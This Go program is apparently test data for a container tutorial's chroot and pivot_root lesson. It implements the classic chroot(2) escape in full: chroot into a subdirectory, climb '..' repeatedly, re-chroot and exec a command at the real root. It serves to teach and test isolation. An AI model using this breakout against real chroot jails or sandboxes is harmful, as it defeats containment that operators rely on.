// Command escape is the classic chroot(2) escape, for the lesson on chroot
// and pivot_root (docs/05-rootfs.md). Run as root inside a chroot, it
// climbs out to the real root of its mount namespace and runs COMMAND
// there; inside a root set up by pivot_root(2) it climbs nowhere.
//
//	escape COMMAND [ARG...]
//
// chroot(2) changes only the process's root directory, and ".." stops only
// at that root. The trick: chroot into a subdirectory while the current
// directory stays outside it; now the current directory is not under the
// root, so ".." climbs freely, up to the root of the mount namespace. See
// chroot(2), NOTES. After pivot_root(2) and the unmount of the old root,
// the namespace's root is the container's root: there is nothing above it.
//
// Build it static, to run in a root without a C library:
//
//	CGO_ENABLED=0 go build -o ROOTFS/escape ./pkg/rootfs/testdata/escape
package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func step(call string, err error) {
	if err != nil {
		fmt.Fprintf(os.Stderr, "escape: %s: %v\n", call, err)
		os.Exit(1)
	}
	fmt.Fprintf(os.Stderr, "escape: %s = 0\n", call)
}

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: escape COMMAND [ARG...]")
		os.Exit(2)
	}
	// A directory to chroot into. Our current directory stays where it is,
	// outside the new root.
	if err := unix.Mkdir(".escape", 0o700); err != nil && err != unix.EEXIST {
		step(`mkdir(".escape")`, err)
	}
	step(`chroot(".escape")`, unix.Chroot(".escape"))
	// ".." is refused only at the process's root directory; we are outside
	// it, so each ".." climbs one level, until the namespace's real root
	// (where ".." is "." again). 1024 is more levels than any path has.
	for i := 0; i < 1024; i++ {
		if err := unix.Chdir(".."); err != nil {
			step(`chdir("..")`, err)
		}
	}
	fmt.Fprintln(os.Stderr, `escape: chdir("..") x 1024`)
	// Make wherever we are now the root.
	step(`chroot(".")`, unix.Chroot("."))
	err := unix.Exec(os.Args[1], os.Args[1:], os.Environ())
	fmt.Fprintf(os.Stderr, "escape: exec %s: %v\n", os.Args[1], err)
	os.Exit(127)
}
